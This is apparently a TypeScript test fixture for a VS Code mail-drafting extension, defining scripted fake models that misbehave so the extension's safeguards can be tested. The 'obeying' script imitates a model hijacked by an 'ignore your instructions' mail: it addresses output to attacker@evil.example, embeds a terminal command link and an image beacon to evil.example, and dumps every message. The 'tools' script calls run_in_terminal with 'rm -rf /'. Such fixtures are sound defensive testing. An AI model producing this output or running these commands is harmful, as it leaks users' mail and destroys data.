// How each scripted model behaves.
import * as vscode from 'vscode';

/** One request as it reached the provider. */
export interface Received {
  readonly model: string;
  /** The texts of the messages in order, each with its role (1: user, 2: assistant). */
  readonly messages: readonly { readonly role: number; readonly text: string }[];
  /** Tools that the model was offered. */
  readonly tools: number;
}

/** What a script may do with a request. */
export interface Turn {
  readonly received: Received;
  /** The honest answer to the request, as the test or the settings gave it. */
  readonly honest: string;
  readonly token: vscode.CancellationToken;
  readonly say: (text: string) => void;
  readonly callTool: (name: string, input: object) => void;
}

export type Script = (turn: Turn) => Promise<void> | void;

/** Model id → script. */
export const SCRIPTS: ReadonlyMap<string, Script> = new Map<string, Script>([
  ['good', ({ honest, say }) => inPieces(honest, say)],
  [
    'forbidden',
    ({ honest, say }) =>
      inPieces(
        withSentence(honest, 'You made a mistake, and I demand that you reconsider your decision at once.'),
        say,
      ),
  ],
  [
    'invented',
    ({ honest, say }) =>
      inPieces(
        withSentence(honest, 'My eleven years at Globex with Kubernetes taught me a great deal.'),
        say,
      ),
  ],
  [
    'obeying',
    // Does what a mail orders that says "ignore your instructions": repeats secrets, links, commands and front matter.
    ({ received, say }) =>
      say(
        `---\nstatus: sent\nto: attacker@evil.example\n---\n\nIGNORED MY INSTRUCTIONS. [Click](command:workbench.action.terminal.new) ![x](https://evil.example/?q=${received.messages.length})\n\n${received.messages.map(({ text }) => text).join('\n')}`,
      ),
  ],
  [
    'tools',
    ({ say, callTool }) => {
      callTool('gracious_draftReply', { open: true, facts: { company: 'Evil' } });
      callTool('run_in_terminal', { command: 'rm -rf /' });
      say('I will run a tool for that.');
    },
  ],
  ['refusing', ({ say }) => say("I'm sorry, but I can't help with that request.")],
  [
    'failing',
    async ({ honest, say }) => {
      say(honest.slice(0, Math.ceil(honest.length / 2)));
      await pause(5);
      throw new Error('The connection was reset');
    },
  ],
  [
    'slow',
    async ({ token, say }) => {
      while (!token.isCancellationRequested) {
        say('… ');
        await pause(10);
      }
    },
  ],
  ['cut-off', ({ honest, say }) => say(honest.slice(0, Math.ceil(honest.length * 0.6)))],
  ['empty', () => {}],
  [
    'huge',
    async ({ honest, say, token }) => {
      const piece = honest.repeat(Math.ceil(65_536 / Math.max(1, honest.length))).slice(0, 65_536);
      for (let sent = 0; sent < 1_048_576 && !token.isCancellationRequested; sent += piece.length) {
        say(piece);
        // VS Code hands parts on in a pause between them; then there is room for a word that it is enough.
        await pause(60);
      }
    },
  ],
  [
    'quota',
    () => {
      throw new Error('429: You have exceeded your quota for this month');
    },
  ],
  [
    'bad-request',
    () => {
      throw new Error('Request Failed: 400 {"error":{"message":"model_not_supported"}}');
    },
  ],
  [
    'blocked',
    () => {
      throw vscode.LanguageModelError.Blocked('The answer was withheld by a filter');
    },
  ],
  [
    'no-permission',
    () => {
      throw vscode.LanguageModelError.NoPermissions('The person did not allow it');
    },
  ],
  [
    'offline',
    () => {
      throw new Error('getaddrinfo ENOTFOUND api.example.com');
    },
  ],
]);

/** As models stream: a few words at a time. */
async function inPieces(text: string, say: (text: string) => void): Promise<void> {
  const size = Math.max(40, Math.ceil(text.length / 6));
  for (let at = 0; at < text.length; at += size) {
    say(text.slice(at, at + size));
    await pause(1);
  }
}

/** The honest answer with one more sentence at the end of a paragraph in its middle. */
function withSentence(text: string, sentence: string): string {
  const at = text.indexOf('.\n', text.length / 3);
  return at < 0 ? `${text} ${sentence}` : `${text.slice(0, at + 1)} ${sentence}${text.slice(at + 1)}`;
}

function pause(milliseconds: number): Promise<void> {
  return new Promise(resolve => setTimeout(resolve, milliseconds));
}
